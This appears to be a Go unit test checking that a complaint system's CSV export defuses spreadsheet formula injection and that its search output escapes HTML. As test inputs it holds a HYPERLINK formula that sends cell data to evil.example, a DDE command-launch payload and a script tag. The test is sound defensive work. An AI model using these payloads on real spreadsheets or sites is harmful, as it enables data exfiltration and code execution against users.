package search

import (
	"bytes"
	"encoding/csv"
	"html"
	"strings"
	"testing"
	"time"

	"github.com/kotakita/aduan"
	"github.com/kotakita/aduan/internal/store"
)

// TestLibraryCSVIsData: an entry made from a citizen's question (the
// coordinator's "from complaint") carries text the citizen typed. In the
// CSV export no cell starts a formula; the import gives the text back
// exactly; the search's HTML escapes it.
func TestLibraryCSVIsData(t *testing.T) {
	citizen := `=HYPERLINK("http://evil.example/?d="&A1,"Klik")`
	rec := store.LibraryRecord{Entry: aduan.LibraryEntry{ID: 7, Title: "@SUM(1+1)*cmd|' /C calc'!A0", Questions: []string{citizen, "-1+1", "biasa saja"},
		Answer: "\t=1+1", SourceText: "+62 812 <b>x</b>", SourceURL: "\r=2", Active: true}, AgencyCode: "DPUPR", CategoryCodes: []string{"JALAN"}}
	var buf bytes.Buffer
	if err := WriteLibrary(&buf, FormatCSV, []store.LibraryRecord{rec}, time.Now()); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, cell := range rows[1] {
		if cell != "" && strings.ContainsAny(strings.TrimLeft(cell, " ")[:1], "=+-@\t\r\n") {
			t.Errorf("a cell starts a formula: %q", cell)
		}
	}
	back, err := ReadLibrary(bytes.NewReader(buf.Bytes()), FormatCSV)
	if err != nil {
		t.Fatal(err)
	}
	got := back[0].Entry
	if got.Title != rec.Entry.Title || got.Questions[0] != citizen || got.Questions[1] != "-1+1" || got.Answer != "=1+1" ||
		got.SourceText != rec.Entry.SourceText {
		t.Errorf("round trip: %+v", got)
	}
	// Shown in the console's search: escaped, never markup.
	if m := Mark("<script>alert(1)</script> "+citizen, nil); strings.Contains(m, "<script>") || m != html.EscapeString("<script>alert(1)</script> "+citizen) {
		t.Errorf("Mark: %q", m)
	}
}
